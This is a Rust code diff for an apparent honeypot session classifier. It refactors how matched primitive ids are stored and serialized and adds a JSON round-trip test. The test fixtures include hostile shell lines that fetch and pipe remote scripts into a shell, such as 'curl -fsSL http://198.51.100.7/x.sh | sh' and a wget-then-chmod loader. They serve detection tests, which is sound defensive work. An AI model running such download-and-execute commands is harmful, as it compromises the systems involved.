@@ -8,7 +8,7 @@ use crate::catalog::{Behavior, Catalog, Primitive};
 use crate::expr::Expr;
 use crate::extract;
 use crate::field::Field;
-use crate::matcher::{protocol_bit, CompileError, Matcher, PrimSet};
+use crate::matcher::{protocol_bit, CompileError, Matcher, PrimIter, PrimSet};
 use crate::shell;
 use serde::{Deserialize, Serialize};
 use sikker_event::{Event, EventData, Protocol};
@@ -54,10 +54,101 @@ impl fmt::Display for Outcome {
 /// The result of classifying one session.
 #[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
 pub struct Classification {
-    /// Ids of the matched primitives, in catalog order: shared with the engine's catalog, so
-    /// a classification allocates one list, not one string per primitive.
-    pub primitives: Vec<Arc<str>>,
+    /// Ids of the matched primitives, in catalog order.
+    pub primitives: Primitives,
     pub outcome: Outcome,
+}
+
+/// The ids of a session's matched primitives, in catalog order: the matched set itself with
+/// the engine's table of ids (shared), so a classification neither allocates a list nor
+/// counts a reference per primitive. Serializes as the list of ids.
+#[derive(Clone)]
+pub struct Primitives {
+    ids: Arc<[Box<str>]>,
+    set: PrimSet,
+}
+
+impl Primitives {
+    /// The ids, in catalog order (as given, for a deserialized list).
+    pub fn iter(&self) -> PrimitiveIds<'_> {
+        PrimitiveIds {
+            ids: &self.ids,
+            members: self.set.iter(),
+        }
+    }
+
+    pub fn len(&self) -> usize {
+        self.set.len()
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.set.is_empty()
+    }
+
+    pub fn contains(&self, id: &str) -> bool {
+        self.iter().any(|p| p == id)
+    }
+}
+
+impl<'a> IntoIterator for &'a Primitives {
+    type Item = &'a str;
+    type IntoIter = PrimitiveIds<'a>;
+
+    fn into_iter(self) -> PrimitiveIds<'a> {
+        self.iter()
+    }
+}
+
+/// The ids of [`Primitives`], in order.
+pub struct PrimitiveIds<'a> {
+    ids: &'a [Box<str>],
+    members: PrimIter<'a>,
+}
+
+impl<'a> Iterator for PrimitiveIds<'a> {
+    type Item = &'a str;
+
+    fn next(&mut self) -> Option<&'a str> {
+        let ids = self.ids;
+        self.members
+            .find_map(|i| ids.get(i as usize).map(|id| &**id))
+    }
+}
+
+/// A list of ids as a set of its own: every one of them, in the given order.
+impl<S: AsRef<str>> FromIterator<S> for Primitives {
+    fn from_iter<I: IntoIterator<Item = S>>(ids: I) -> Primitives {
+        let ids: Arc<[Box<str>]> = ids.into_iter().map(|id| id.as_ref().into()).collect();
+        let mut set = PrimSet::new(ids.len());
+        (0..ids.len() as u32).for_each(|i| set.insert(i));
+        Primitives { ids, set }
+    }
+}
+
+impl PartialEq for Primitives {
+    fn eq(&self, other: &Primitives) -> bool {
+        self.iter().eq(other.iter())
+    }
+}
+
+impl Eq for Primitives {}
+
+impl fmt::Debug for Primitives {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.debug_list().entries(self.iter()).finish()
+    }
+}
+
+impl Serialize for Primitives {
+    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
+        s.collect_seq(self.iter())
+    }
+}
+
+impl<'de> Deserialize<'de> for Primitives {
+    fn deserialize<D: serde::Deserializer<'de>>(d: D) -> Result<Primitives, D::Error> {
+        Ok(Vec::<String>::deserialize(d)?.into_iter().collect())
+    }
 }
 
 /// One session's classification with what identifies it (for reclassification and tools).
@@ -107,7 +198,7 @@ pub struct Engine {
     by_primitive: Vec<Vec<u32>>,
     prim_index: HashMap<String, u32>,
     /// Primitive ids by index, as classifications hand them out.
-    prim_ids: Vec<Arc<str>>,
+    prim_ids: Arc<[Box<str>]>,
 }
 
 impl Engine {
@@ -151,7 +242,7 @@ impl Engine {
         let prim_ids = catalog
             .primitives
             .iter()
-            .map(|p| Arc::from(p.id.as_str()))
+            .map(|p| p.id.as_str().into())
             .collect();
         Ok(Engine {
             id: NEXT_ENGINE_ID.fetch_add(1, Ordering::Relaxed),
@@ -190,7 +281,7 @@ impl Engine {
     /// sessions must not be mixed in: see [`Engine::classify_events`] for that.
     pub fn classify(&self, events: &[Event]) -> Classification {
         let set = self.match_events(events.iter());
-        self.resolve_set(&set)
+        self.resolve_set(set)
     }
 
     /// The matched primitive set of a session, compiled matcher, with the line cache.
@@ -299,7 +390,7 @@ impl Engine {
     /// and matched afresh. Same result; the benchmark's cold-cache figure.
     pub fn classify_uncached(&self, events: &[Event]) -> Classification {
         let set = self.match_events_with(events.iter(), None);
-        self.resolve_set(&set)
+        self.resolve_set(set)
     }
 
     /// Reference classification: every primitive tested on its own against every extracted
@@ -324,7 +415,7 @@ impl Engine {
                 set.insert(prim);
             }
         }
-        self.resolve_set(&set)
+        self.resolve_set(set)
     }
 
     /// Classifies a set of primitive ids (as stored), e.g. to re-resolve stored sets against
@@ -337,30 +428,33 @@ impl Engine {
                 None => return Outcome::Unclassified,
             }
         }
-        self.resolve_set(&set).outcome
+        self.outcome_of(&set)
     }
 
-    fn resolve_set(&self, set: &PrimSet) -> Classification {
-        let mut primitives: Vec<Arc<str>> = Vec::with_capacity(set.len());
+    fn resolve_set(&self, set: PrimSet) -> Classification {
+        let outcome = self.outcome_of(&set);
+        Classification {
+            primitives: Primitives {
+                ids: Arc::clone(&self.prim_ids),
+                set,
+            },
+            outcome,
+        }
+    }
+
+    fn outcome_of(&self, set: &PrimSet) -> Outcome {
         // The primitive named by the fewest behaviors: only those can account for the set.
         let mut rarest: Option<(usize, u32)> = None;
         for i in set.iter() {
-            let (Some(id), Some(by)) = (
-                self.prim_ids.get(i as usize),
-                self.by_primitive.get(i as usize),
-            ) else {
+            let Some(by) = self.by_primitive.get(i as usize) else {
                 continue;
             };
-            primitives.push(Arc::clone(id));
             if rarest.is_none_or(|(n, _)| by.len() < n) {
                 rarest = Some((by.len(), i));
             }
         }
         let Some((_, rarest)) = rarest else {
-            return Classification {
-                primitives,
-                outcome: Outcome::Nothing,
-            };
+            return Outcome::Nothing;
         };
         let mut best: Option<usize> = None;
         for &bi in &self.by_primitive[rarest as usize] {
@@ -375,12 +469,9 @@ impl Engine {
                 Some(cur) => cur,
             });
         }
-        Classification {
-            primitives,
-            outcome: match best {
-                Some(bi) => Outcome::Behavior(self.catalog.behaviors[bi].id.clone()),
-                None => Outcome::Unclassified,
-            },
+        match best {
+            Some(bi) => Outcome::Behavior(self.catalog.behaviors[bi].id.clone()),
+            None => Outcome::Unclassified,
         }
     }
 
@@ -417,7 +508,7 @@ impl Engine {
                     src_ip: first.canonical_src_ip(),
                     protocol: first.protocol,
                     events: evs.len(),
-                    classification: self.resolve_set(&set),
+                    classification: self.resolve_set(set),
                 })
             })
             .collect()
@@ -845,7 +936,7 @@ when = "ua-zgrab"
     }
 
     fn ids(c: &Classification) -> Vec<&str> {
-        c.primitives.iter().map(|p| &**p).collect()
+        c.primitives.iter().collect()
     }
 
     fn both(e: &Engine, events: &[Event]) -> Classification {
@@ -908,6 +999,34 @@ when = "ua-zgrab"
         assert_eq!(both(&e, &extra).outcome, Outcome::Behavior("loader".into()));
         let stray = [login(), cmd("echo SECRET")];
         assert_eq!(both(&e, &stray).outcome, Outcome::Unclassified);
+    }
+
+    /// The JSON of a classification is a contract (stored reclassification data, tool
+    /// output): the primitives are a plain list of ids, and it reads back equal.
+    #[test]
+    fn classifications_serialize_as_lists_of_ids() {
+        let e = engine();
+        let c = e.classify_uncached(&[login(), cmd("wget http://x/b; chmod 777 b")]);
+        let json = serde_json::to_value(&c).unwrap();
+        assert_eq!(
+            json,
+            serde_json::json!({
+                "primitives": ["login", "wget", "chmod"],
+                "outcome": { "behavior": "loader" },
+            })
+        );
+        let back: Classification = serde_json::from_value(json).unwrap();
+        assert_eq!(back, c);
+        assert_eq!(back.primitives.len(), 3);
+        assert!(back.primitives.contains("wget") && !back.primitives.contains("uname"));
+        let session = &e.classify_events(&[login(), cmd("uname -a")])[0];
+        let json = serde_json::to_string(session).unwrap();
+        assert!(json.contains(r#""primitives":["login","uname"]"#), "{json}");
+        let back: SessionClassification = serde_json::from_str(&json).unwrap();
+        assert_eq!(&back, session);
+        let none = e.classify_uncached(&[cmd("ls")]);
+        assert_eq!(serde_json::to_string(&none.primitives).unwrap(), "[]");
+        assert!(none.primitives.is_empty());
     }
 
     #[test]
@@ -1115,7 +1234,7 @@ when = "ua-zgrab"
     #[test]
     fn anchored_regexes_found_by_their_inner_literals() {
         let e = Engine::builtin();
-        let has = |c: &Classification, id: &str| c.primitives.iter().any(|p| &**p == id);
+        let has = |c: &Classification, id: &str| c.primitives.contains(id);
         for (line, id, expected) in [
             ("lspci | grep -i VGA", "cmd-grep-vga", true),
             ("grep nvidia /proc/x; echo vga", "cmd-grep-vga", true),
@@ -1142,7 +1261,7 @@ when = "ua-zgrab"
     #[test]
     fn command_line_primitives_found_through_the_commands() {
         let e = Engine::builtin();
-        let has = |c: &Classification, id: &str| c.primitives.iter().any(|p| &**p == id);
+        let has = |c: &Classification, id: &str| c.primitives.contains(id);
         for (line, pipe) in [
             ("curl -fsSL http://198.51.100.7/x.sh | sh", true),
             ("cd /tmp;WGET -q -O- http://h/i|bash", true),
